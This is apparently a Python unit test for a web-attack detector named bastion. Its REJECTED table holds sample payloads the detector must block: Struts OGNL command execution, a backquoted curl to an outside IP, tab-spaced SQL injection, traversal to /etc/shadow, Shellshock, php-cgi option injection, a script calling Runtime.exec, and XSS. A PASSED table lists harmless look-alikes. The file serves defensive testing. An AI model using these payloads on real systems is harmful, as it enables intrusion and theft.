"""Unit: the shapes of the fresh77 first contact (projectdiscovery/nuclei-templates' CVE templates of 2000-2016, against
the Azure Resource Manager requests and answers the Azure SDK for Python's tests recorded).

First contact found nothing to fix by shape: 97.3 % detection, no false positive. The only misses are left by design: a
lone ``..`` sent as a JavaServer Faces library name (no separator, no target: the same ``..`` people type as an
ellipsis; fresh65 left it out of its corpus for that reason) and Rejetto HFS's ``{.cookie|…}`` macro (one product's
template language, left in fresh76 too). These tables pin the shapes of the split that CRS missed and bastion refused,
so a later change cannot lose them quietly: Struts ``redirect:``/``action:`` OGNL prefixes, a backquoted command in a
SOAP action URL, tab-separated UNION and SLEEP subqueries, ``..`` climbs with a control byte or ``./`` folded in,
a Shellshock function definition, php-cgi option injection, a scripted search body that calls ``Runtime.exec``; and
the look-alikes that must pass. Values are our own; none comes from a corpus."""

from __future__ import annotations

from collections.abc import Callable

from shape_tables import shape_tests

from bastion.detection import Context

BODY = Context("body", "comment")
CONTEXTS = [BODY, Context("header", "x-note"), Context("cookie", "pref"), Context("query", "q"), Context("path", "")]

REJECTED = {
    "an OGNL expression behind a Struts navigation prefix": [
        "redirect:${#p=new java.lang.ProcessBuilder({'uname','-a'}).start()}",
        "action:%{#r=@java.lang.Runtime@getRuntime().exec('hostname')}",
    ],
    "a backquoted command inside a URL-like value": [
        "\"http://example.org/Svc/GetInfo/`curl http://203.0.113.5/x`\"",
    ],
    "SQL with tabs for blanks": [
        "x')\tUNION\tSELECT\tnull,version()\t--\t",
        "1)\tOR\t(SELECT\t1\tFROM\t(SELECT(SLEEP(3)))a)\tAND\t(1=1",
    ],
    "climbs padded with a control byte or a folded ./": [
        "..\x01/..\x01/..\x01/..\x01/etc/shadow",
        "..././..././..././..././etc/hosts",
    ],
    "a function definition in a header-like value (Shellshock)": [
        "() { :; }; /usr/bin/id",
    ],
    "php-cgi options in a query string": [
        "-d allow_url_include=1 -d auto_prepend_file=php://input",
    ],
    "a search body whose script runs a process": [
        '{"script_fields":{"x":{"script":"Runtime.getRuntime().exec(\\"uname\\")"}}}',
    ],
    "a quote, a closing script and a new one": [
        "q'>\"</script><script>alert(origin)</script>",
    ],
}

PASSED = {
    "navigation values, URLs, tabbed words and scripts that compute": [
        "redirect:/account/settings",
        "action:save-draft",
        "http://example.org/Svc/GetInfo/v2",
        "name\tunion\tselected\tcount",
        "Loading... please wait.../",
        "function () { return 1; }",
        "The -d flag sets a directive such as allow_url_include",
        '{"script_fields":{"total":{"script":"doc[\'price\'].value * 2"}}}',
        "Runtime settings: exec mode = async",
        "<methodCall><methodName>examples.getStateName</methodName></methodCall>",
    ],
    "a lone .. (left: only the application knows the field names a path)": [
        "..",
    ],
}

test_rejected, test_passed = shape_tests(REJECTED, PASSED, CONTEXTS)


def test_linear(inspect_seconds: Callable[[str, Context], float]) -> None:
    for unit in ("..\x01/", "redirect:${#", "\tUNION\tSELECT", "() { :; }; ", "..././"):
        half = unit * (64 * 1024 // len(unit))
        whole = half + half
        assert inspect_seconds(whole, BODY) < 3 * inspect_seconds(half, BODY) + 0.05, unit
